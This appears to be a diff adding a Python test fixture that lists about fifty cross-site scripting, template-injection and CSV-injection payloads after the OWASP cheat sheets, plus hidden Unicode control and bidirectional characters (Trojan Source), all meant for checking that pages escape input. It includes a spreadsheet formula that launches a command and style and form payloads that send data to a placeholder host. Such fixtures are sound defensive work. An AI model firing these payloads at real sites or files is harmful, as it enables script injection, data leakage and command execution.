@@ -1,0 +1,97 @@
+"""Which texts try to become something else than text?
+
+Forms after the OWASP cheat sheet on cross-site scripting (breaking out of an element, an attribute, a comment, a
+style, a title, a script, a drawing; handlers that need no click; schemes; mixed case, broken tags, entities,
+unusual white space) and on CSV injection, and templates of the language that writes our pages.
+"""
+
+from __future__ import annotations
+
+RUN = "window.__xss=1"
+"""What a payload does if it runs; no page of ours ever has this name."""
+
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT >",
+    f"<script\n>{RUN}</script\n>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"</script><script>{RUN}</script>",
+    f"<!--<script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror='{RUN}'>",
+    f"<img src=x onerror={RUN}//",
+    f"<img/src=x/onerror={RUN}>",
+    f"<img\x0csrc=x\x0conerror={RUN}>",
+    f'" onmouseover="{RUN}',
+    f"' autofocus onfocus='{RUN}' tabindex=1 x='",
+    f"x onfocus={RUN} autofocus",
+    f"`onmouseover={RUN}`",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"</title><script>{RUN}</script>",
+    f"</svg></title></desc><img src=x onerror={RUN}>",
+    f'<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
+    f"</style><img src=x onerror={RUN}>",
+    "</style><style>*{background:url(https://example.org/leak)}</style>",
+    "<style>@import 'https://example.org/x.css'</style>",
+    "<link rel=stylesheet href=https://example.org/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
+    "<base href=https://example.org/>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f'<a href="javascript:{RUN}">x</a>',
+    f"javascript:{RUN}",
+    "<form action=https://example.org/><input name=weight-burden><button>send</button></form>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}></select>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
+    f"]]><![CDATA[<script>{RUN}</script>",
+    f"<?xml version='1.0'?><script>{RUN}</script>",
+    "{{ 7*7 }}{% raw %}{# x #}",
+    "{{ self.__init__.__globals__ }}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    f"\u2028{RUN}//\u2029",
+    f'"}};{RUN}//',
+    f"'-{RUN}-'",
+    f'</template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<plaintext><textarea></textarea><img src=x onerror={RUN}>",
+    '<b id=weighing>{"outcomes":[]}</b><i id=preferences>x</i>',
+    "__proto__ constructor toString",
+    '=HYPERLINK("https://example.org/"&A1)',
+    "=cmd|' /C calc'!A0",
+)
+"""At least thirty (issue 5); `RUN` is what they would do."""
+
+HIDDEN = (
+    "\u0000",
+    "\u0008",
+    "\u001b",
+    "\u007f",
+    "\u0085",
+    "\u061c",
+    "\u200b",
+    "\u200e",
+    "\u200f",
+    "\u202a",
+    "\u202b",
+    "\u202c",
+    "\u202d",
+    "\u202e",
+    "\u2060",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+    "\ufeff",
+    "\ufff9",
+    "\U000e0041",
+    "\ue000",
+)
+"""Control, direction and format characters (Trojan Source, CVE-2021-42574), tags and private use."""
